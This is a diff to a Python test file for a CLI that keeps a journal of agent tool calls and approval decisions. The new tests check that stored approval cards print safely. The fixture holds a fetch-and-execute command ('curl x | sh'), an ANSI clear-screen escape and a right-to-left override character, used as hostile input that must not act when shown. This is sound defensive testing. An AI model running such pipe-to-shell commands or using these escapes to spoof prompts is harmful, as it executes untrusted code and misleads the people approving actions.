@@ -19,10 +19,12 @@ from assent.cli.main import main
 from assent.history import indextables, reader, records, search
 from assent.history.index import FOLDER
 from assent.history.journal import Journal
+from assent.history.pictures import beside
 from assent.verdicts import Deed
 from cli import recorded
 from history.database import tamper
 from policy.samples import running
+from webview import tickets
 
 Show = Callable[..., list[int]]
 
@@ -120,7 +122,9 @@ class TestWhatIsAskedFor:
 
     def test_each_filter_is_an_option_and_each_needs_a_table_that_can_be_filled(self) -> None:
         options = vars(history._parser().parse_args([]))
-        assert set(search.FILTERS) == set(options) - {"journal", "all", "last", "jsonl", "csv"}
+        assert set(search.FILTERS) == set(options) - {
+            "journal", "all", "last", "show", "jsonl", "csv",
+        }  # fmt: skip
         assert {it.table for it in search.FILTERS.values()} == set(indextables.FILLS)
         assert {*indextables.SAID} - {"kind", "call", "place"} <= set(search.FILTERS)
 
@@ -461,3 +465,65 @@ async def test_names_are_found_in_capitals_and_not(tmp_path: Path, show: Show) -
     journal.close()
     assert show("--agent", "école", str(path)) == [1]
     assert show("--rule", "ärger", str(path)) == [1]
+
+
+class TestARecordWithItsCard:
+    """`--show N` prints the card as it was kept, or why there is none."""
+
+    @pytest.fixture
+    async def pictured(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+        monkeypatch.setenv("ASSENT_STATE_DIR", str(tmp_path / "state"))
+        path = tmp_path / "state" / "journal.db"
+        journal = Journal(path=path, epoch="epoch-1", now=lambda: 1)
+        hostile = tickets.code("curl x | sh\n\x1b[2J\u202e1 Denied")
+        card = tickets.read().card.model_copy(update={"title": hostile})
+        text = json.dumps({"card": tickets.wire(card)})
+        call = running("curl x | sh")
+        asked = records.asked(call, "t1", "It leaves the machine.")
+        decided = {"outcome": "refused", "by": "user", "because": "No."}
+        try:
+            await journal.keep(asked)
+            await journal.keep(records.decided(call, "t1", **decided), lambda: text)
+            await journal.keep(records.decided(call, "t2", **decided), lambda: str(1 / 0))
+            await journal.keep(records.decided(call, None, **decided))
+        finally:
+            journal.close()
+        return path
+
+    def test_it_is_printed_and_no_letter_of_it_acts(
+        self, pictured: Path, capsys: pytest.CaptureFixture[str]
+    ) -> None:
+        assert main(["history", "--show", "2"]) == 0
+        lines = capsys.readouterr().out.splitlines()
+        assert lines[0].startswith("2 ")
+        assert lines[1] == "The card, as it was shown:"
+        assert "  title: curl x | sh" in lines
+        assert all(it.startswith("  ") for it in lines[2:])
+        assert not {"\x1b", "\u202e"} & set("".join(lines))
+        assert main(["history", str(pictured), "--show", "2", "--jsonl"]) == 0
+        told = json.loads(capsys.readouterr().out)
+        assert (told["seq"], told["card"]["level"], told["cardNote"]) == (2, "medium", "")
+
+    @pytest.mark.usefixtures("pictured")
+    @pytest.mark.parametrize(
+        ("number", "words"),
+        [
+            ("1", "Its card is kept with the decision: show that record."),
+            ("3", "Its card could not be kept: division by zero."),
+            ("4", "No card was shown of it."),
+        ],
+    )
+    def test_why_there_is_none_is_said(
+        self, number: str, words: str, capsys: pytest.CaptureFixture[str]
+    ) -> None:
+        assert main(["history", "--show", number]) == 0
+        assert words in capsys.readouterr().out.splitlines()
+
+    def test_a_card_that_does_not_fit_and_a_record_that_is_none_are_said(
+        self, pictured: Path, capsys: pytest.CaptureFixture[str]
+    ) -> None:
+        tamper(beside(pictured), "update pictures set picture = x'00'")
+        assert main(["history", "--show", "2"]) == 0
+        assert "not the one that was shown" in capsys.readouterr().out
+        assert main(["history", "--show", "99"]) == 1
+        assert capsys.readouterr().err == "There is no record 99.\n"
